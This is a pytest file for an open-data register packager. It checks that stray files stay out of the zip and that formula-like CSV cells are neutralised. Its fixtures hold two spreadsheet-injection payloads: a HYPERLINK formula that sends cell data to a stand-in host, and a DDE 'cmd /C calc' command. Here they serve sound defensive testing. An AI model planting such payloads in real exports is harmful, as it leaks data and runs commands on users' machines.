"""The open-data zip ships only the package, with formula-like cells neutralised (issue 17)."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import date
from pathlib import Path

import pytest
from frictionless import Package

from generator.parts.opendata.package_zip import NOTE, package_zip
from generator.register.formula_cells import formula_like, neutralise
from generator.validation.validate import validate
from tests.registers import make_base

PROJECT_REGISTER = Path(__file__).resolve().parent.parent / "register"

FORMULA = '=HYPERLINK("http://zly.example/?x="&A1,"kliknij")'
STRAY = (
    "kluby-robocze.txt",
    "wojewodztwa/pomorskie/kluby (kopia).xlsx",
    "wojewodztwa/pomorskie/notatki.csv",
    "slowniki/stary.csv",
    "schematy/nieuzywany.yaml",
    "dobre-praktyki/szkic.txt",
    "granice/inne.geojson",
)


def _set_cell(path: Path, club: str, column: str, value: str) -> None:
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    index = rows[0].index(column)
    for row in rows[1:]:
        if row[0] == club:
            row[index] = value
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8")


@pytest.fixture(scope="module")
def register(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = make_base(tmp_path_factory.mktemp("zip") / "register")
    for name in STRAY:
        (root / name).write_text("poza pakietem\n", encoding="utf-8")
    kluby = root / "wojewodztwa" / "pomorskie" / "kluby.csv"
    _set_cell(kluby, "gdansk-przymorze", "podmiot_nazwa", FORMULA)
    _set_cell(kluby, "gdansk-przymorze", "adres", "@SUM(1+1)*cmd|' /C calc'!A0")
    return root


@pytest.fixture(scope="module")
def archive(register: Path) -> zipfile.ZipFile:
    return zipfile.ZipFile(io.BytesIO(package_zip(register)))


def test_no_stray_file_is_shipped(archive: zipfile.ZipFile) -> None:
    names = set(archive.namelist())
    assert not names & set(STRAY)
    assert "dobre-praktyki/README.md" not in names  # officers' notes, not a story
    assert {"datapackage.yaml", "schematy/kluby.yaml", "granice/SOURCE.md"} <= names
    assert "dobre-praktyki/grupa-wsparcia-na-przymorzu.md" in names


def test_every_shipped_file_is_named_by_the_package(archive: zipfile.ZipFile) -> None:
    descriptor = json.loads(archive.read("datapackage.json"))
    named = {r[key] for r in descriptor["resources"] for key in ("path", "schema")}
    documented = {"datapackage.yaml", "datapackage.json", NOTE, "granice/wojewodztwa.geojson",
                  "granice/SOURCE.md"}
    extra = {n for n in archive.namelist() if n not in named | documented}
    assert extra and all(n.startswith("dobre-praktyki/") and n.endswith(".md") for n in extra)


def test_formula_cells_are_neutralised_as_in_the_csv_exports(archive: zipfile.ZipFile) -> None:
    text = archive.read("wojewodztwa/pomorskie/kluby.csv").decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    club = next(r for r in rows if r["klub_id"] == "gdansk-przymorze")
    assert club["podmiot_nazwa"] == neutralise(FORMULA) == "'" + FORMULA
    assert club["adres"].startswith("'@SUM")
    assert club["szerokosc"] == "54.4050"  # numbers untouched
    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    assert not [c for c in cells if formula_like(c)]
    phones = [c for c in cells if c.startswith("+48")]
    assert phones, "the demo register has phone numbers: they stay as typed"


def test_the_note_says_where_values_changed(archive: zipfile.ZipFile) -> None:
    note = archive.read(NOTE).decode("utf-8")
    assert "apostrof" in note
    assert "wojewodztwa/pomorskie/kluby.csv, kolumna podmiot_nazwa: 1 komórka" in note


def test_untouched_files_keep_their_bytes(register: Path, archive: zipfile.ZipFile) -> None:
    for name in ("slowniki/statusy.csv", "wojewodztwa/mazowieckie/zdarzenia.csv"):
        assert archive.read(name) == (register / name).read_bytes()


def test_the_zipped_package_stays_valid(register: Path, tmp_path: Path) -> None:
    path = tmp_path / "pakiet.zip"
    path.write_bytes(package_zip(register))
    report = Package(str(path)).validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:5]


def test_the_unzipped_demo_package_passes_our_own_validation(tmp_path: Path) -> None:
    """Phone numbers such as +48 … are not touched, so the unzipped package is a valid register."""
    with zipfile.ZipFile(io.BytesIO(package_zip(PROJECT_REGISTER))) as archive:
        archive.extractall(tmp_path / "rejestr")
    (tmp_path / "rejestr" / "datapackage.json").unlink()  # the JSON twin of the descriptor
    report = validate(tmp_path / "rejestr", date(2026, 12, 7))
    assert [p.code for p in report.problems if p.severity == "error"] == []
